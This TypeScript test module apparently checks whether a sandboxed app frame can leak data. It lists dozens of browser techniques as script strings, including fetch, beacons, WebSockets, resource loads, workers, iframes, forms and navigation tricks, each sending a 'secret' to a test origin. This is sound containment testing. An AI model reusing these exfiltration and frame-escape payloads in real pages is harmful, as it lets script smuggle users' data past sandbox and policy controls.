/**
 * Ways out of a frame. Each is script that makes a request to `at(NAME)` when nothing stops it.
 */

import { app } from "./view.ts";

/** They leave the app where it is. */
export const QUIET: Record<string, string> = {
  fetch: "fetch(at('fetch')).catch(() => {})",
  fetch_no_cors: "fetch(at('fetch_no_cors'), { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {})",
  fetch_keepalive: "fetch(at('fetch_keepalive'), { keepalive: true, mode: 'no-cors' }).catch(() => {})",
  xhr: "const x = new XMLHttpRequest(); x.open('GET', at('xhr')); x.send()",
  beacon: "navigator.sendBeacon(at('beacon'), 'x')",
  websocket: "new WebSocket(at('websocket').replace('http', 'ws'))",
  eventsource: "new EventSource(at('eventsource'))",
  image: "new Image().src = at('image')",
  image_set: "put(`<img srcset='${at('image_set')} 1x'>`)",
  svg_image: "put(`<svg><image href='${at('svg_image')}'/></svg>`)",
  css_image: "put(`<div style='width:9px;height:9px;background:url(${at('css_image')})'>`)",
  css_link: "put(`<link rel=stylesheet href='${at('css_link')}'>`)",
  css_import: "put(`<style>@import '${at('css_import')}';</style>`)",
  font: "put(`<style>@font-face{font-family:q;src:url(${at('font')})}</style><p style='font-family:q'>q</p>`)",
  video: "put(`<video src='${at('video')}' autoplay muted>`)",
  audio: "new Audio(at('audio')).play().catch(() => {})",
  track: "put(`<video muted src='data:video/mp4,x'><track default src='${at('track')}'></video>`)",
  script: "run({ src: at('script') })",
  module: "import(at('module')).catch(() => {})",
  prefetch: "put(`<link rel=prefetch href='${at('prefetch')}'>`)",
  preload: "put(`<link rel=preload as=image href='${at('preload')}'>`)",
  modulepreload: "put(`<link rel=modulepreload href='${at('modulepreload')}'>`)",
  icon: "put(`<link rel=icon href='${at('icon')}'>`)",
  manifest: "put(`<link rel=manifest href='${at('manifest')}'>`)",
  speculation: "run({ type: 'speculationrules', text: JSON.stringify({ prefetch: [{ source: 'list', urls: [at('speculation')] }], prerender: [{ source: 'list', urls: [at('speculation')] }] }) })",
  object: "put(`<object data='${at('object')}'></object>`)",
  embed: "put(`<embed src='${at('embed')}'>`)",
  frame: "put(`<iframe src='${at('frame')}'></iframe>`)",
  frame_srcdoc: "put(`<iframe srcdoc=\"<img src='${at('frame_srcdoc')}'>\"></iframe>`)",
  frame_blank: "const f = document.createElement('iframe'); document.body.append(f); try { f.contentWindow.fetch(at('frame_blank')).catch(() => {}) } catch {}",
  frame_blob: "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<img src='${at('frame_blob')}'>`], { type: 'text/html' })); document.body.append(f)",
  frame_data: "put(`<iframe src=\"data:text/html,<img src='${at('frame_data')}'>\"></iframe>`)",
  frame_script: "put(`<iframe srcdoc=\"<script>fetch('${at('frame_script')}').catch(() => {})</` + `script>\"></iframe>`)",
  form: "put(`<form id=g1 method=post action='${at('form')}' target=hidden></form><iframe name=hidden></iframe>`); document.getElementById('g1').submit()",
  popup: "window.open(at('popup'))",
  link_blank: "click({ href: at('link_blank'), target: '_blank' })",
  download: "click({ href: at('download'), download: 'x' })",
  ping: "click({ href: '#', ping: at('ping') })",
  worker: "try { new Worker(at('worker')) } catch {}",
  worker_blob: "try { new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker_blob')}')`]))) } catch {}",
  shared_worker: "try { new SharedWorker(at('shared_worker')) } catch {}",
  service_worker: "try { navigator.serviceWorker.register(at('service_worker')).catch(() => {}) } catch {}",
  report: "put(`<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri ${at('report')}\">`); new Image().src = 'https://blocked.invalid/x'",
  top: "try { top.location = at('top') } catch {}",
  parent: "try { parent.location = at('parent') } catch {}",
  parent_script: "try { parent.document.body.append('x'); parent.fetch(at('parent_script')) } catch {}",
  top_script: "try { top.fetch(at('top_script')) } catch {}",
  opener: "try { open('', '_top').location = at('opener') } catch {}",
  preconnect: "put(`<link rel=preconnect href='${at('preconnect')}'><link rel=dns-prefetch href='${at('preconnect')}'>`)",
};

/** They try to take the app's own frame elsewhere. */
export const LEAVING: Record<string, string> = {
  location: "location = at('location')",
  replace: "location.replace(at('replace'))",
  assign: "location.assign(at('assign'))",
  link: "click({ href: at('link') })",
  area: "put(`<map><area id=g2 href='${at('area')}'></map>`); document.getElementById('g2').click()",
  refresh: "put(`<meta http-equiv=refresh content='0;url=${at('refresh')}'>`)",
  download_detached: "Object.assign(document.createElement('a'), { href: at('download_detached'), download: 'x' }).click()",
  open_self: "window.open(at('open_self'), '_self')",
  form_self: "put(`<form id=g3 action='${at('form_self')}'></form>`); document.getElementById('g3').submit()",
  svg_link: "put(`<svg><a id=g4 href='${at('svg_link')}'><text>x</text></a></svg>`); document.getElementById('g4').dispatchEvent(new MouseEvent('click', { bubbles: true }))",
  blob: "location = URL.createObjectURL(new Blob([`<script>fetch('${at('blob')}')</` + `script>`], { type: 'text/html' }))",
  data: "location = `data:text/html,<script>fetch('${at('data')}')</` + `script>`",
  javascript: "location = `javascript:fetch('${at('javascript')}')`",
  child: "put(`<iframe srcdoc=\"<script>parent.location = '${at('child')}'</` + `script>\"></iframe>`)",
  base: "put(`<base href='${at('base')}/'>`); click({ href: 'x' })",
  history: "try { history.pushState(null, '', '#x'); } catch {} location.hash = 'y'; location.href = at('history')",
};

const TOOLS = (origin: string): string => `
const at = (name) => ${JSON.stringify(origin)} + "/" + name + "?secret=" + encodeURIComponent(JSON.stringify(heard.length));
const put = (html) => { const box = document.createElement("div"); document.body.append(box); box.append(document.createRange().createContextualFragment(html)); };
const run = (rest) => document.head.append(Object.assign(document.createElement("script"), rest));
const click = (rest) => { const link = Object.assign(document.createElement("a"), rest); document.body.append(link); link.click(); };
`;

/** An app that starts as one should, then tries these, and says when it has. */
export function attack(origin: string, ways: string[]): string {
  return app(`${TOOLS(origin)} await start(); ${ways.map((way) => `try { ${way} } catch {} await new Promise((done) => setTimeout(done, 15));`).join("\n")} globalThis.tried = true;`);
}

/** The same for a bare frame, where nothing stops it. */
export function control(origin: string, way: string): string {
  return `<!doctype html><body><script>const heard = []; ${TOOLS(origin)} { ${way} }</script></body>`;
}
